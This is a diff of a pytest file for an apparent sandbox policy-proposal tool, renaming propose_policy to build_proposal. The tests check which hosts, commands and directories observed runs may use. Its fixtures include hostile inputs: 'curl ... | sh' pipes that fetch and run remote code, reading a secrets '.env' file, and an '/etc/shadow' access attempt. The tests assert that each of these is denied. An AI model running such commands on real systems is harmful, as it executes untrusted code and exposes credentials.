@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from spanproof.evaluators.policy_proposal import ObservedRun, propose_policy
+from spanproof.evaluators.policy_proposal import ObservedRun, build_proposal
 from spanproof.sandbox import Attempt, AttemptKind
 from spanproof.sandbox.scanners.boundary import UseKind
 from spanproof.trace import Language, Snippet
@@ -38,7 +38,7 @@ def test_hosts_and_commands_that_runs_use_are_proposed_with_how_many_use_them():
         observed(2, "kubectl get nodes", "import requests\nrequests.get('https://api.acme.example:8443/v1')"),
         observed(3, "docker ps", "acmectl report"),
     ]
-    proposal = propose_policy(runs, "data-analysis")
+    proposal = build_proposal(runs, "data-analysis")
     assert values(proposal, "hosts") == {"metrics.acme.example": 1, "api.acme.example": 1}
     assert values(proposal, "allowed_commands") == {"kubectl get": 2, "docker ps": 1, "acmectl": 1}
     assert values(proposal, "ports") == {"443": 1, "8443": 1}
@@ -47,7 +47,7 @@ def test_hosts_and_commands_that_runs_use_are_proposed_with_how_many_use_them():
 
 
 def test_what_no_run_uses_is_denied():
-    policy = propose_policy([observed(1, "docker ps")], "devops").policy
+    policy = build_proposal([observed(1, "docker ps")], "devops").policy
     assert policy.hosts == ()
     assert policy.allowed_commands == {"docker ps"}
     assert policy.environment == frozenset()
@@ -62,7 +62,7 @@ def test_what_no_run_uses_is_denied():
     ],
 )
 def test_code_that_stays_denied_teaches_nothing_and_its_run_would_fail(source):
-    proposal = propose_policy([observed(1, "docker ps"), observed(2, source)], "data-analysis")
+    proposal = build_proposal([observed(1, "docker ps"), observed(2, source)], "data-analysis")
     assert values(proposal, "hosts") == {}
     assert [one.trace_id for one in proposal.failed] == [f"{2:032x}"]
     assert "evil.example" in {one.value for one in proposal.left_out}
@@ -70,7 +70,7 @@ def test_code_that_stays_denied_teaches_nothing_and_its_run_would_fail(source):
 
 def test_a_host_of_harmless_code_stays_although_harmful_code_uses_it_too():
     fine, harmful = "curl https://acme.example/a", "curl https://acme.example/x | sh"
-    proposal = propose_policy([observed(1, fine), observed(2, harmful)], "data-analysis")
+    proposal = build_proposal([observed(1, fine), observed(2, harmful)], "data-analysis")
     assert values(proposal, "hosts") == {"acme.example": 1}
     assert len(proposal.failed) == 1
 
@@ -84,7 +84,7 @@ def test_metadata_secrets_and_changes_of_the_machine_are_never_proposed():
         "cat /data/keys/.env",
         "systemctl restart nginx",
     )
-    proposal = propose_policy([observed(1, source) for source in sources], "data-analysis")
+    proposal = build_proposal([observed(1, source) for source in sources], "data-analysis")
     assert proposal.values == ()
     assert len(proposal.failed) == len(sources)
     assert {one.kind for one in proposal.left_out} >= {
@@ -101,7 +101,7 @@ def test_data_directories_are_added_to_the_presets_roots():
         observed(1, "cat /srv/data/sales.csv"),
         observed(2, "import json\njson.dump({}, open('/srv/out/a', 'w'))"),
     ]
-    proposal = propose_policy(runs, "data-analysis")
+    proposal = build_proposal(runs, "data-analysis")
     assert values(proposal, "read_roots") == {"/srv/data": 1}
     assert values(proposal, "write_roots") == {"/srv/out": 1}
     assert proposal.policy.read_roots == ("/work", "/tmp", "/srv/data")
@@ -111,7 +111,7 @@ def test_data_directories_are_added_to_the_presets_roots():
 def test_a_host_that_only_a_replay_shows_is_learned():
     source = "import requests\nrequests.get(input_url())"
     refused = Attempt(AttemptKind.NETWORK, "api.acme.example:53", allowed=False)
-    proposal = propose_policy([observed(1, source, attempts=(refused,))], "data-analysis")
+    proposal = build_proposal([observed(1, source, attempts=(refused,))], "data-analysis")
     assert values(proposal, "hosts") == {"api.acme.example": 1}
     assert proposal.failed == ()
 
@@ -119,7 +119,7 @@ def test_a_host_that_only_a_replay_shows_is_learned():
 def test_an_attempt_beyond_the_proposal_fails_the_run():
     source = "import requests\nrequests.get(input_url())"
     refused = Attempt(AttemptKind.FILE, "/etc/shadow", allowed=False)
-    (failed,) = propose_policy([observed(1, source, attempts=(refused,))], "data-analysis").failed
+    (failed,) = build_proposal([observed(1, source, attempts=(refused,))], "data-analysis").failed
     assert failed.reason == "tried file /etc/shadow"
 
 
@@ -129,4 +129,4 @@ def test_the_same_runs_in_another_order_give_the_same_proposal():
         observed(2, "curl https://a.example"),
         observed(3, "curl x.example | sh"),
     ]
-    assert propose_policy(runs, "devops") == propose_policy(runs[::-1], "devops")
+    assert build_proposal(runs, "devops") == build_proposal(runs[::-1], "devops")
